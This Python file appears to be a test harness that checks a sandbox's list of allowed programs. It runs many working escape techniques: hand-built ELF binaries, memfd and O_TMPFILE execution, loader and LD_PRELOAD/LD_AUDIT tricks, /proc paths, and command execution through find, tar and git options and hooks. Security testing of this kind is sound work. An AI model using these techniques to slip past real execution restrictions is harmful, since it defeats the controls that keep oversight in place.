"""Attacks on a list of programs: each tries to make something that is not listed into code.

Called as `python3 -c SOURCE NAME`; prints {way: what happened}, where "RAN" means that unlisted code ran. The list is
taken to hold python3, sh and what the names below say. Everything is made in the writable roots.
"""

import ctypes
import json
import mmap
import os
import platform
import shutil
import struct
import subprocess
import sys

UNLISTED = "/usr/bin/id"
RAN = "RAN"
libc = ctypes.CDLL(None, use_errno=True)


def tiny():
    """A static program of one page that ends with status 42."""
    if platform.machine() == "x86_64":
        number, code = 62, bytes.fromhex("bf2a000000b8e70000000f05")
    else:
        number, code = 183, bytes.fromhex("400580d2c80b80d2010000d4")
    size = 64 + 56 + len(code)
    head = b"\x7fELF\x02\x01\x01" + bytes(9)
    head += struct.pack("<HHIQQQIHHHHHH", 2, number, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return head + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 4096) + code


def ended(child):
    """Waits for a forked child."""
    status = os.waitpid(child, 0)[1]
    return os.WEXITSTATUS(status) if os.WIFEXITED(status) else -os.WTERMSIG(status)


def forked(act):
    """What a child comes to that runs `act`, which executes something or raises."""
    out, into = os.pipe()
    child = os.fork()
    if child == 0:
        os.dup2(into, 1)
        os.close(out)
        try:
            act()
        except OSError as error:
            os.write(into, b"errno %d" % error.errno)
            os._exit(99)
        except BaseException as error:
            os.write(into, repr(error).encode())
        os._exit(98)
    os.close(into)
    text = b""
    while chunk := os.read(out, 65536):
        text += chunk
    os.close(out)
    status = ended(child)
    return RAN if status == 42 or b"uid=" in text else "%s: %s" % (status, text.decode(errors="replace")[:120])


def ran(argv, **more):
    """What a started program comes to."""
    try:
        done = subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, timeout=30, **more)
    except OSError as error:
        return "errno %d" % error.errno
    text = (done.stdout + done.stderr).decode(errors="replace")
    return RAN if "uid=" in text or done.returncode == 42 else "%d: %s" % (done.returncode, text[:160])


def put(path, content, mode=0o755):
    with open(path, "wb") as file:
        file.write(content)
    os.chmod(path, mode)
    return path


def libc_execve(path):
    argv = (ctypes.c_char_p * 2)(path.encode(), None)
    envp = (ctypes.c_char_p * 1)(None)
    libc.execve(path.encode(), argv, envp)
    raise OSError(ctypes.get_errno(), "execve")


PLACES = ["/workspace", "/tmp", "/mnt/user-data/outputs", "/dev/shm"]


def dropped():
    found = {}
    for place in PLACES:
        path = put(place + "/tiny", tiny())
        found["static binary in " + place] = forked(lambda: os.execv(path, [path]))
        copy = shutil.copy(UNLISTED, place + "/copy")
        found["copied program in " + place] = forked(lambda: os.execv(copy, [copy]))
        found["copy in " + place + ", by sh"] = ran(["/bin/sh", "-c", copy])
        os.link(path, place + "/linked")
        found["hard link in " + place] = forked(lambda: os.execv(place + "/linked", ["x"]))
        os.symlink(UNLISTED, place + "/link")
        found["link in " + place] = forked(lambda: os.execv(place + "/link", ["x"]))
        for name in ["tiny", "copy", "linked", "link"]:
            os.unlink(place + "/" + name)
    return found


def loader():
    loaders = [line.split()[-1] for line in open("/proc/self/maps") if "/ld-" in line]
    loader = loaders[0] if loaders else "/lib64/ld-linux-x86-64.so.2"
    copy = shutil.copy(UNLISTED, "/workspace/copy")
    own = put("/workspace/loader", open(loader, "rb").read())
    found = {
        "loader with an unlisted program": ran([loader, UNLISTED]),
        "loader with a copy": ran([loader, copy]),
        "a copy of the loader": ran([own, UNLISTED]),
        "loader, library path": ran([loader, "--library-path", "/workspace", copy]),
    }
    os.unlink(copy)
    os.unlink(own)
    return found


def scripts():
    found = {}
    shutil.copy("/usr/bin/printf", "/workspace/copy")
    for name, line in [
        ("program", "/usr/bin/printf uid="),
        ("copy", "/workspace/copy uid="),
        ("interpreter", "/usr/bin/head"),
        ("one by env", "/usr/bin/env head"),
    ]:
        path = put("/workspace/script", b"#!%s\nuid=\n" % line.encode())
        found["script of an unlisted " + name] = forked(lambda: os.execv(path, [path]))
        found["the same of an unlisted %s by sh" % name] = ran(["/bin/sh", "-c", path])
    path = put("/workspace/script", b"#!/bin/sh\necho uid=\n")
    found["dropped script of sh"] = forked(lambda: os.execv(path, [path]))
    put("/workspace/script", b"id\n/usr/bin/id\ncommand id\nexec /usr/bin/id\n", 0o644)
    found["sh with a script of unlisted commands"] = ran(["/bin/sh", "/workspace/script"])
    done = subprocess.run(["/bin/sh"], input=b"id\n. /workspace/script\n", capture_output=True, timeout=30)
    found["sh with them as input"] = RAN if b"uid=" in done.stdout else done.stderr.decode(errors="replace")[:120]
    os.unlink("/workspace/script")
    os.unlink("/workspace/copy")
    return found


def memory():
    found = {}
    for name, flags in [("no flags", 0), ("MFD_CLOEXEC", 1), ("MFD_EXEC", 16), ("MFD_ALLOW_SEALING", 2), ("MFD_NOEXEC_SEAL", 8)]:
        def act(flags=flags):
            file = libc.syscall(319 if platform.machine() == "x86_64" else 279, b"x", flags)
            if file < 0:
                raise OSError(ctypes.get_errno(), "memfd_create")
            os.write(file, tiny())
            try:
                os.fchmod(file, 0o700)
            except OSError:
                pass
            for way in ["fexecve", "path"]:
                if os.fork() == 0:
                    try:
                        os.execve(file if way == "fexecve" else "/proc/self/fd/%d" % file, ["x"], {})
                    finally:
                        os._exit(1)
                if os.wait()[1] >> 8 == 42:
                    os._exit(42)
            raise OSError(13, "execve")
        found["memfd_create, " + name] = forked(act)
    return found


def file_without_name():
    def act(place):
        file = os.open(place, os.O_TMPFILE | os.O_RDWR, 0o700)
        os.write(file, tiny())
        again = os.open("/proc/self/fd/%d" % file, os.O_RDONLY)
        os.close(file)
        os.execve(again, ["x"], {})
    return {"O_TMPFILE in " + place: forked(lambda: act(place)) for place in PLACES}


def starts():
    """An unlisted program from an interpreter, in as many ways as it has."""
    posix_spawn = lambda: os._exit(42 if spawned() else 1)
    def spawned():
        out, into = os.pipe()
        child = os.posix_spawn(UNLISTED, [UNLISTED], {}, file_actions=[(os.POSIX_SPAWN_DUP2, into, 1)])
        os.close(into)
        os.waitpid(child, 0)
        return b"uid=" in os.read(out, 4096)
    def at_descriptor(way):
        file = os.open(UNLISTED, os.O_PATH if way == "O_PATH" else os.O_RDONLY)
        os.execve(file, [UNLISTED], {})
    return {
        "os.execv": forked(lambda: os.execv(UNLISTED, [UNLISTED])),
        "os.execvp": forked(lambda: os.execvp("id", ["id"])),
        "subprocess": ran([UNLISTED]),
        "subprocess, shell": ran("id || /usr/bin/id || exec id", shell=True),
        "os.posix_spawn": forked(posix_spawn),
        "os.system": forked(lambda: os._exit(42 if os.system("id > /tmp/out") == 0 and os.path.getsize("/tmp/out") else 1)),
        "os.popen": RAN if "uid=" in os.popen("id 2>/dev/null").read() else "nothing",
        "ctypes execve": forked(lambda: libc_execve(UNLISTED)),
        "execveat": forked(lambda: at_descriptor("read")),
        "execveat, O_PATH": forked(lambda: at_descriptor("O_PATH")),
        "/proc/self/fd": forked(lambda: os.execv("/proc/self/fd/%d" % os.open(UNLISTED, os.O_RDONLY), ["id"])),
        "/dev/fd": forked(lambda: os.execv("/dev/fd/%d" % os.open(UNLISTED, os.O_RDONLY), ["id"])),
        "/proc/self/root": forked(lambda: os.execv("/proc/self/root" + UNLISTED, ["id"])),
        "/proc/self/cwd": forked(lambda: (os.chdir("/usr/bin"), os.execv("/proc/self/cwd/id", ["id"]))),
        "PID 1's program": forked(lambda: os.execv("/proc/1/exe", ["x"])),
    }


def mapped(path, how):
    file = os.open(path, os.O_RDONLY)
    try:
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
        libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
        first = 1 if how.startswith("mprotect") else 5
        kind = mmap.MAP_SHARED if how.endswith("shared") else mmap.MAP_PRIVATE
        at = libc.mmap(None, 4096, first, kind, file, 0)
        if at == ctypes.c_void_p(-1).value:
            return "errno %d" % ctypes.get_errno()
        if first == 5 or libc.mprotect(at, 4096, 5) == 0:
            return RAN
        return "errno %d" % ctypes.get_errno()
    finally:
        os.close(file)


def over_code():
    """Writes over code of the C library, as `dd` can."""
    at = next(int(line.split("-")[0], 16) for line in open("/proc/self/maps") if " r-xp " in line and "/libc" in line)
    memory = os.open("/proc/self/mem", os.O_RDWR)
    os.pwrite(memory, os.pread(memory, 16, at), at)
    os._exit(42)


def maps():
    own = put("/workspace/library", tiny())
    found = {}
    for how in ["mmap private", "mmap shared", "mprotect private", "mprotect shared"]:
        found[how + " of an unlisted program"] = mapped(UNLISTED, how)
        found[how + " of a file of its own"] = mapped(own, how)
    os.unlink(own)
    found["write to mapped code by /proc/self/mem"] = forked(over_code)
    return found


def libraries():
    real = [line.split()[-1] for line in open("/proc/self/maps") if "/libm" in line or "/libc.so" in line or "/libc-" in line][0]
    copy = put("/workspace/dropped.so", open(real, "rb").read())
    def look(name):
        script = "print('uid=' * any(' r-xp ' in line and %r in line for line in open('/proc/self/maps')))" % name
        return [sys.executable, "-I", "-S", "-c", script]
    found = {"LD_PRELOAD": ran(look("dropped.so"), env={"LD_PRELOAD": copy})}
    found["LD_AUDIT"] = ran(look("dropped.so"), env={"LD_AUDIT": copy})
    if "la_version" in found["LD_AUDIT"]:
        # It was loaded, and only then found to be no auditor.
        found["LD_AUDIT"] = RAN
    os.makedirs("/workspace/lib", exist_ok=True)
    shutil.copy(copy, "/workspace/lib/" + os.path.basename(real))
    found["LD_LIBRARY_PATH"] = ran(look("/workspace/lib"), env={"LD_LIBRARY_PATH": "/workspace/lib"})
    try:
        ctypes.CDLL(copy)
        found["dlopen of a dropped library"] = RAN
    except OSError as error:
        found["dlopen of a dropped library"] = str(error)[:120]
    shutil.rmtree("/workspace/lib")
    os.unlink(copy)
    return found


def helpers():
    """Listed programs that start others."""
    shutil.copy(UNLISTED, "/workspace/dropped")
    found = {
        "find -exec": ran(["find", "/workspace", "-maxdepth", "0", "-exec", UNLISTED, ";"]),
        "find -exec of a dropped one": ran(["find", "/workspace/dropped", "-exec", "{}", ";"]),
        "find -execdir": ran(["find", "/workspace", "-maxdepth", "0", "-execdir", UNLISTED, ";"]),
        "tar --checkpoint-action": ran(
            ["tar", "-cf", "/tmp/x.tar", "--checkpoint=1", "--checkpoint-action=exec=id", "-C", "/workspace", "."]
        ),
        "tar --to-command": ran(["sh", "-c", "tar -cf /tmp/x.tar -C /workspace . && tar -xf /tmp/x.tar --to-command=id"]),
        "tar -I": ran(["tar", "-I", UNLISTED, "-cf", "-", "-C", "/workspace", "."]),
    }
    if shutil.which("git"):
        git = ["git", "-c", "user.name=a", "-c", "user.email=a@b", "-C", "/workspace/repository"]
        environment = {"PATH": os.environ["PATH"], "HOME": "/workspace"}
        subprocess.run(["git", "init", "-q", "/workspace/repository"], capture_output=True, env=environment)
        subprocess.run([*git, "commit", "-q", "--allow-empty", "-m", "x"], capture_output=True, env=environment)
        found["git -c core.pager"] = on_terminal([*git, "-c", "core.pager=id", "-p", "log"], environment)
        found["git alias"] = ran([*git, "-c", "alias.x=!id", "x"], env=environment)
        found["git core.editor"] = ran([*git, "-c", "core.editor=id;false", "commit", "--allow-empty"], env=environment)
        found["git core.sshCommand"] = ran([*git, "-c", "core.sshCommand=id >&2;", "ls-remote", "ssh://x/y"], env=environment)
        put("/workspace/repository/.git/hooks/pre-commit", b"#!/bin/sh\nid\n")
        found["git hook of sh"] = ran([*git, "commit", "--allow-empty", "-m", "y"], env=environment)
        shutil.copy(UNLISTED, "/workspace/repository/.git/hooks/pre-commit")
        found["git hook, dropped"] = ran([*git, "commit", "--allow-empty", "-m", "y"], env=environment)
        shutil.rmtree("/workspace/repository")
    os.unlink("/workspace/dropped")
    return found


def on_terminal(argv, environment):
    """The same as `ran` for what asks whether its output is a terminal."""
    ours, theirs = os.openpty()
    child = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=theirs, stderr=theirs, env=environment)
    child.wait(30)
    os.set_blocking(ours, False)
    text = os.read(ours, 65536).decode(errors="replace")
    return RAN if "uid=" in text else text[:160]


def tricks():
    """What would change a mount or a listed file. None of it works with or without a list."""
    def mount(flags, source, target):
        result = libc.mount(source, target, None, flags, None)
        if result < 0:
            raise OSError(ctypes.get_errno(), "mount")
        os._exit(42)
    def rename_over():
        put("/workspace/ls", tiny())
        os.rename("/workspace/ls", "/usr/bin/ls")
        os._exit(42)
    def namespace():
        if libc.unshare(0x10000000 | 0x20000) < 0:
            raise OSError(ctypes.get_errno(), "unshare")
        os._exit(42)
    return {
        "bind of a listed path": forked(lambda: mount(4096, UNLISTED.encode(), b"/usr/bin/ls")),
        "remount": forked(lambda: mount(32 | 4096, None, b"/workspace")),
        "bind of itself": forked(lambda: mount(4096, b"/workspace", b"/workspace")),
        "rename over a listed path": forked(rename_over),
        "link beside a listed path": forked(lambda: (os.link(UNLISTED, "/usr/bin/listed"), os._exit(42))),
        "own namespaces": forked(namespace),
        "write to a listed program": forked(lambda: (os.open("/usr/bin/ls", os.O_WRONLY), os._exit(42))),
    }


ATTACKS = {
    "dropped": dropped,
    "loader": loader,
    "scripts": scripts,
    "memory": memory,
    "file_without_name": file_without_name,
    "starts": starts,
    "maps": maps,
    "libraries": libraries,
    "helpers": helpers,
    "tricks": tricks,
}


def everything(tops):
    """Every regular file below some directories that can be mapped as code, and every one that execve would open."""
    code, executable = [], []
    for directory, _, names in (entry for top in tops for entry in os.walk(top, followlinks=False)):
        if directory.startswith(("/proc", "/dev")):
            continue
        for name in names:
            path = directory + "/" + name if directory != "/" else "/" + name
            try:
                if os.path.islink(path) or not os.path.isfile(path):
                    continue
                if mapped(path, "mmap private") == RAN:
                    code.append(path)
                if os.access(path, os.X_OK):
                    executable.append(path)
            except OSError:
                continue
    return {"code": sorted(code), "executable": sorted(executable)}


if __name__ == "__main__":
    name = sys.argv[1]
    print(json.dumps(everything(sys.argv[2:]) if name == "everything" else ATTACKS[name]()))
